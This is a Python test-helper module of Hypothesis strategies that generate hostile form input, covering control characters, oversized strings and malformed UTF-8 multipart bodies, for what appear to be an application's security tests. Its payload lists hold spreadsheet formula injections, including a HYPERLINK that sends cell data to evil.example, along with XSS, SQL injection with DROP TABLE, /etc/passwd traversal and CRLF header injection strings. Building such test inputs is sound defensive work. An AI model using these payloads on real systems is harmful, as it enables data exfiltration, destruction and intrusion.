"""Hypothesis strategies for hostile form input, shared by the security tests.

Text values cover what people paste or attackers send: huge strings, control characters
(NUL included), bidi overrides, byte-order marks, markup, template syntax, SQL fragments
and spreadsheet formulas.
"""

from hypothesis import strategies as st

FORMULES = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"clic")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]

HOSTILES = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "\x00" * 50,
    "\x1b[31mrouge\x1b[0m",
    "\u202eevil\u202c",
    "\ufeffbom",
    "\u200b",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{ 7*7 }}{% debug %}",
    "' OR 1=1 --",
    "'; DROP TABLE apes_rh_user; --",
    "../../../../etc/passwd",
    "%00%0d%0aSet-Cookie: x=y",
    "ligne\r\nBcc: victime@example.org",
    "😀" * 80,
    "é" * 151,
    "x" * 100_000,
    *FORMULES,
]

controles = st.text(alphabet=st.characters(min_codepoint=0, max_codepoint=0x1F), max_size=20)
texte_hostile = st.one_of(
    st.sampled_from(HOSTILES),
    st.text(max_size=200),
    controles,
    st.builds(lambda a, b, c: a + b + c, st.text(max_size=20), controles, st.text(max_size=20)),
)

# Valid syntax, longer than the 254 characters of the e-mail column (tested on its own).
ADRESSE_TROP_LONGUE = "a" * 64 + "@" + ".".join(["b" * 60] * 4) + ".fr"

emails_hostiles = st.one_of(
    texte_hostile,
    st.emails().filter(lambda e: len(e) <= 254),
    st.builds(
        lambda e, h: e + h,
        st.emails().filter(lambda e: len(e) <= 200),
        st.sampled_from(HOSTILES[:12]),
    ),
    st.just("x@" + "d" * 63 + ".example"),
)

# Valid values carrying hostile payloads, so that accepted submissions are exercised too.
adresses_valides = st.builds(
    lambda n, d: f"personne.{n}@{d}",
    st.integers(0, 10**6),
    st.sampled_from(["asso.example", "coop.example", "xn--caf-dma.example"]),
)
noms_plausibles = st.one_of(
    st.sampled_from(FORMULES + ["<b>gras</b>", "{{ user.password }}", "O'Brien", "Zoë-Ève"]),
    st.text(
        alphabet=st.characters(categories=("L", "Zs", "Pd", "Po", "So", "Sm")),
        min_size=1,
        max_size=150,
    ).filter(str.strip),
)


def multipart(champs: dict[str, bytes], boundary: str = "limite-hostile-7Hq") -> tuple[bytes, str]:
    """A multipart body built by hand, so field values can be any bytes (invalid UTF-8)."""
    parts = []
    for nom, valeur in champs.items():
        parts.append(
            b"--"
            + boundary.encode()
            + b"\r\n"
            + f'Content-Disposition: form-data; name="{nom}"'.encode()
            + b"\r\n\r\n"
            + valeur
            + b"\r\n"
        )
    body = b"".join(parts) + b"--" + boundary.encode() + b"--\r\n"
    return body, f"multipart/form-data; boundary={boundary}"


octets_invalides = st.one_of(
    st.sampled_from(
        [
            b"\xff\xfe\xfd",
            b"\xc3\x28",
            b"\xed\xa0\x80",  # an encoded surrogate, invalid in UTF-8
            b"\xf8\x88\x80\x80\x80",
            b"\x80" * 300,
            b"nom\x00\xff",
            "=cmd|' /C calc'!A0".encode("utf-16"),
            "Élodie".encode("latin-1"),
        ]
    ),
    st.binary(max_size=200),
)
